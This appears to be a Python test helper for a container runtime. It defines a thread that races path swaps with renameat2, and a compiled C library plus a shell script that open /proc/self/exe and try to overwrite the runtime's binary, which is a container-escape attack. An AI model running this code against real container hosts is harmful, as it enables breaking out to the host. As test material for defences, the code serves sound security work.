"""What hostile images and neighbours do: paths that change while a runtime walks them, and a library that opens its executer."""
import ctypes
import os
import pathlib
import re
import shutil
import subprocess
import threading

AT_FDCWD, RENAME_EXCHANGE = -100, 2
_libc = ctypes.CDLL(None, use_errno=True)


def exchange(one, other):
    if _libc.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), f"renameat2 {one}")


class Exchanging:
    """While the context is open two paths change places as fast as they can."""

    def __init__(self, one, other):
        self._paths = (one, other)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.count = 0

    def _run(self):
        while not self._stop.is_set():
            for _ in range(100):
                exchange(*self._paths)
                self.count += 1

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join()


# Loaded by whatever is executed as /proc/self/exe; opens that file and hands it to a shell that tries to write to it.
EVIL_LIBRARY = r"""
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void Constructor(void) {
  int fd = open("/proc/self/exe", O_RDONLY);
  if (fd < 0) return;
  dup2(fd, 9);
  unsetenv("LD_PRELOAD");
  execl("/bin/sh", "sh", "/attack.sh", (char*)0);
}
"""
EVIL_SCRIPT = r"""#!/bin/sh
echo reached
i=0
while [ $i -lt 200 ]; do
  (printf 'overwritten' >/proc/self/fd/9) 2>/dev/null && echo overwritten && break
  i=$((i + 1))
done
"""


def plant_library(rootfs, program):
    """Puts the attack, and all that a dynamically linked program needs, into the root. Returns whether it is one."""
    rootfs = pathlib.Path(rootfs)
    done = subprocess.run(["ldd", program], capture_output=True, text=True, check=False)
    libraries = re.findall(r"(/\S+) \(0x", done.stdout)
    for library in libraries:
        target = rootfs / library.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(os.path.realpath(library), target)
    (rootfs / "attack.sh").write_text(EVIL_SCRIPT)
    subprocess.run(["cc", "-shared", "-fPIC", "-x", "c", "-", "-o", rootfs / "evil.so"], input=EVIL_LIBRARY, text=True, check=True)
    return bool(libraries)
